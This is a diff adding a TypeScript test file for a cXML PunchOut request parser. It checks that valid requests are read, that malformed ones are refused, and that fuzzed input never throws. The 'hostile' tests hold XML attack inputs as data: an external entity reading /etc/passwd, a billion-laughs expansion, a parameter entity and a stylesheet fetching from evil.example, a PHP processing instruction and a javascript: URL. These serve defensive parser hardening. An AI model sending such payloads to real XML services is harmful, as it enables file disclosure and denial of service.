@@ -1,0 +1,219 @@
+import { randomNumbers } from "@guerdon/testing";
+import fc from "fast-check";
+import { expect, test } from "vitest";
+import { anItem, aRequest, type RequestParts } from "./a-request.fixture.ts";
+import { createCxml } from "./create-cxml.ts";
+
+const cxml = createCxml();
+const bytes = (text: string) => new TextEncoder().encode(text);
+const read = (text: string, contentType = "text/xml; charset=UTF-8") => cxml.readSetup(bytes(text), contentType);
+
+/** What became of a request: `read`, or why it was refused. */
+const fate = (text: string | Uint8Array, contentType?: string) => {
+  const reading = cxml.readSetup(typeof text === "string" ? bytes(text) : text, contentType);
+  return reading.kind === "read" ? "read" : reading.refusal;
+};
+
+const unchanged = (request: string) => read(request);
+
+// [punchout.cxml]
+test("a request is read with what the shop needs, and nothing of the person in it", () => {
+  const reading = unchanged(aRequest({ operation: "edit", items: anItem() + anItem({ quantity: "3.0" }) }));
+  expect(reading).toEqual({
+    kind: "read",
+    request: {
+      reference: "1539050765.512.83749@buyer.example",
+      senders: [{ domain: "NetworkID", identity: "AN-DEMO-BUYER" }],
+      secret: "demo-secret",
+      operation: "edit",
+      buyer_cookie: "34234234ADFSDF234234",
+      return_url: "http://sandbox.localhost/return",
+      items: [
+        { part: "TV1-10", auxiliary: "TV1:1::1000", quantity: 2, unit_price: 1000 },
+        { part: "TV1-10", auxiliary: "TV1:1::1000", quantity: 3, unit_price: 1000 },
+      ],
+      envelope: {
+        from: [{ domain: "DUNS", identity: "Buying & Co" }],
+        to: [{ domain: "DUNS", identity: "WERK" }],
+        mode: "production",
+      },
+    },
+  });
+  expect(JSON.stringify(reading)).not.toMatch(/pia/i);
+});
+
+// [punchout.cxml]
+test.each<[string, RequestParts]>([
+  ["no document type", { doctype: "" }],
+  ["another version", { doctype: '<!DOCTYPE cXML SYSTEM "http://xml.cXML.org/schemas/cXML/1.2.063/cXML.dtd">' }],
+  [
+    "a public id",
+    { doctype: '<!DOCTYPE cXML PUBLIC "-//cXML//EN" "http://xml.cxml.org/schemas/cXML/1.2.014/cXML.dtd">' },
+  ],
+  ["a comment before it", { doctype: '<!-- from us -->\n<!DOCTYPE cXML SYSTEM "cXML.dtd">' }],
+  ["no declaration", { declaration: "" }],
+  ["no secret", { secret: "" }],
+  ["entities of XML", { cookie: "a&amp;b&lt;c&#38;&#x41;" }],
+  ["CDATA", { cookie: "<![CDATA[<a&b>]]>" }],
+  ["white space", { cookie: "  12  " }],
+])("what buyers send is read: %s", (_, parts) => {
+  expect(fate(aRequest(parts))).toBe("read");
+});
+
+// [punchout.message]
+test.each([
+  ["a&amp;b&lt;c&#38;&#x41;", "a&b<c&A"],
+  ["<![CDATA[<a&b>]]>", "<a&b>"],
+  ["  12  ", "  12  "],
+  ["ä€😀", "ä€😀"],
+])("the buyer's cookie %s is kept as it is", (cookie, expected) => {
+  expect(read(aRequest({ cookie }))).toMatchObject({ request: { buyer_cookie: expected } });
+});
+
+const ENTITY = '<!DOCTYPE cXML [<!ENTITY x SYSTEM "file:///etc/passwd">]>';
+const LAUGHS = `<!DOCTYPE cXML [<!ENTITY a "ha">${["b", "c", "d", "e"]
+  .map((name, index) => `<!ENTITY ${name} "${`&${"abcd"[index]};`.repeat(10)}">`)
+  .join("")}]>`;
+
+// [punchout.hostile]
+test.each<[string, string]>([
+  ["an external entity", aRequest({ doctype: ENTITY, cookie: "&x;" })],
+  ["a billion laughs", aRequest({ doctype: LAUGHS, cookie: "&e;" })],
+  ["an internal subset", aRequest({ doctype: '<!DOCTYPE cXML SYSTEM "a.dtd" [ ]>' })],
+  ["a parameter entity", aRequest({ doctype: '<!DOCTYPE cXML [<!ENTITY % p SYSTEM "http://evil.example/">%p;]>' })],
+  ["two document types", aRequest({ doctype: '<!DOCTYPE cXML SYSTEM "a"><!DOCTYPE cXML SYSTEM "b">' })],
+  ["a document type in the body", aRequest({ items: '<!DOCTYPE cXML SYSTEM "a">' })],
+  ["an entity that is not known", aRequest({ cookie: "&nbsp;" })],
+  ["a bare ampersand", aRequest({ cookie: "a & b" })],
+  ["a character that XML does not know", aRequest({ cookie: "&#0;" })],
+  ["half a pair", aRequest({ cookie: "&#xD800;" })],
+  ["a processing instruction", aRequest({ items: '<?php echo "x" ?>' })],
+  ["a stylesheet", aRequest({ doctype: '<?xml-stylesheet href="http://evil.example/"?>' })],
+  ["another encoding in the declaration", aRequest({ declaration: '<?xml version="1.0" encoding="UTF-16"?>' })],
+  ["another root", aRequest().replaceAll("cXML payloadID", "xXML payloadID").replace("</cXML>", "</xXML>")],
+  ["an end that is missing", aRequest().replace("</cXML>", "")],
+  ["two roots", `${aRequest()}<cXML/>`],
+  ["a deep nest", aRequest({ items: "<a>".repeat(5000) + "</a>".repeat(5000) })],
+  ["nothing", ""],
+  ["JSON", "{}"],
+  ["a text", "Hello"],
+  ["half of it", aRequest().slice(0, 900)],
+])("%s is no document of the protocol", (_, text) => {
+  expect(fate(text)).toBe("unreadable");
+});
+
+// [punchout.hostile]
+test("only UTF-8 is read, whatever the header or the bytes say", () => {
+  const request = aRequest({ cookie: "ä" });
+  expect(fate(request, "text/xml; charset=ISO-8859-1")).toBe("unreadable");
+  expect(fate(Buffer.from(request, "latin1"))).toBe("unreadable");
+  expect(fate(Buffer.from(request, "utf16le"))).toBe("unreadable");
+  expect(fate(Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(request)]))).toBe("read");
+  expect(fate(request, "application/xml")).toBe("read");
+});
+
+// [punchout.setup]
+test.each<[string, string, string]>([
+  ["the operation source", aRequest({ operation: "source" }), "unsupported"],
+  ["another request", aRequest().replaceAll("PunchOutSetupRequest", "OrderRequest"), "unsupported"],
+  ["an answer", '<cXML payloadID="1"><Response><Status code="200" text="OK"/></Response></cXML>', "unsupported"],
+  ["an operation that there is not", aRequest({ operation: "delete" }), "invalid"],
+  ["no id", aRequest().replace(/payloadID="[^"]*"/, ""), "invalid"],
+  ["no cookie", aRequest().replace(/<BuyerCookie>.*<\/BuyerCookie>/, ""), "invalid"],
+  ["an empty cookie", aRequest({ cookie: " " }), "invalid"],
+  ["elements in the cookie", aRequest({ cookie: "<a>1</a>" }), "invalid"],
+  ["no way back", aRequest().replace(/<BrowserFormPost>.*<\/BrowserFormPost>/, ""), "invalid"],
+  ["a script as the way back", aRequest({ url: "javascript:alert(1)" }), "invalid"],
+  ["a path as the way back", aRequest({ url: "/return" }), "invalid"],
+  ["no sender", aRequest().replace(/<Sender>[\s\S]*<\/Sender>/, ""), "invalid"],
+  ["no header", aRequest().replace(/<Header>[\s\S]*<\/Header>/, ""), "invalid"],
+  ["a piece and a half", aRequest({ operation: "edit", items: anItem({ quantity: "1.5" }) }), "invalid"],
+  ["no pieces", aRequest({ operation: "edit", items: anItem({ quantity: "0" }) }), "invalid"],
+  ["less than none", aRequest({ operation: "edit", items: anItem({ quantity: "-1" }) }), "invalid"],
+  ["an item without an id", aRequest({ operation: "edit", items: anItem({ part: "" }) }), "invalid"],
+  ["very many items", aRequest({ operation: "edit", items: anItem().repeat(501) }), "invalid"],
+  ["a very long cookie", aRequest({ cookie: "x".repeat(1001) }), "invalid"],
+])("%s is a document, and refused", (_, text, refusal) => {
+  expect(fate(text)).toBe(refusal);
+});
+
+test("a reason tells what is missing, and repeats nothing of the request", () => {
+  const reading = read(aRequest({ operation: "<".replace("<", "&lt;script&gt;"), cookie: "" }));
+  expect(reading).toEqual({
+    kind: "refused",
+    refusal: "invalid",
+    reason: "Missing or not valid: operation, BuyerCookie.",
+  });
+});
+
+// [punchout.returned-lines]
+test("a price that cannot be read is none, and refuses nothing", () => {
+  const prices = ["12,50", "1.23456", "", "-1"].map((price) => {
+    const reading = read(aRequest({ operation: "edit", items: anItem({ price }) }));
+    return reading.kind === "read" ? reading.request.items[0]?.unit_price : reading;
+  });
+  expect(prices).toEqual([null, null, null, null]);
+});
+
+/** Changes of a request whose fate is known, each at a place that a number chooses. */
+const MUTATIONS: readonly { change: (text: string, at: number) => string; fates: readonly string[] }[] = [
+  { change: (text, at) => text.slice(0, Math.max(1, at % (text.length - 10))), fates: ["unreadable"] },
+  { change: (text, at) => insert(text, at, "\u0000"), fates: ["unreadable"] },
+  { change: (text, at) => insert(text, at, "\u000b"), fates: ["unreadable"] },
+  { change: (text, at) => insert(text, at, "<!ENTITY x 'y'>"), fates: ["unreadable"] },
+  { change: (text, at) => insert(text, at, "<!DOCTYPE x>"), fates: ["unreadable"] },
+  { change: (text) => text.replace('operation="create"', 'operation="source"'), fates: ["unsupported"] },
+  { change: (text, at) => text.replace('operation="create"', `operation="o${at}"`), fates: ["invalid"] },
+  {
+    change: (text, at) =>
+      text.replace("PunchOutSetupRequest ", `P${at} `).replace("</PunchOutSetupRequest", `</P${at}`),
+    fates: ["unsupported"],
+  },
+  { change: (text, at) => text.replace(/payloadID="[^"]*"/, `payloadID="${at}@x"`), fates: ["read"] },
+  { change: (text, at) => text.replace("demo-secret", `&#${33 + (at % 90)};`), fates: ["read"] },
+  { change: (text, at) => text.replace("demo-secret", `&u${at};`), fates: ["unreadable"] },
+  { change: (text, at) => text.replace("http://sandbox", `ftp${at}://sandbox`), fates: ["invalid"] },
+  {
+    change: (text, at) => text.replace("<UserAgent>", `<Extrinsic name="n${at}">v</Extrinsic><UserAgent>`),
+    fates: ["read"],
+  },
+  { change: (text) => text.replace("</BuyerCookie>", ""), fates: ["unreadable"] },
+];
+
+function insert(text: string, at: number, part: string): string {
+  const place = 1 + (at % (text.length - 2));
+  return text.slice(0, place) + part + text.slice(place);
+}
+
+// [punchout.hostile]
+test("560 changed requests each have the fate that their change has", () => {
+  const next = randomNumbers(63);
+  const wrong: string[] = [];
+  for (let round = 0; round < 40; round += 1) {
+    for (const [index, { change, fates }] of MUTATIONS.entries()) {
+      const changed = change(aRequest(), Math.floor(next() * 1e6));
+      const got = fate(changed);
+      if (!fates.includes(got)) {
+        wrong.push(`${index}: ${got} instead of ${fates.join()} of ${changed.slice(0, 3000)}`);
+      }
+    }
+  }
+  expect(wrong).toEqual([]);
+});
+
+// [punchout.hostile]
+test("whatever bytes come, nothing is thrown", () => {
+  const request = aRequest({ operation: "edit", items: anItem() });
+  fc.assert(
+    fc.property(fc.uint8Array({ maxLength: 300 }), (some) => {
+      expect(["read", "unreadable", "invalid", "unsupported"]).toContain(fate(some));
+    }),
+  );
+  fc.assert(
+    fc.property(fc.nat(request.length - 1), fc.string({ maxLength: 20 }), fc.nat(30), (at, some, gone) => {
+      const changed = request.slice(0, at) + some + request.slice(at + gone);
+      expect(["read", "unreadable", "invalid", "unsupported"]).toContain(fate(changed));
+    }),
+    { numRuns: 500, seed: 42 },
+  );
+});
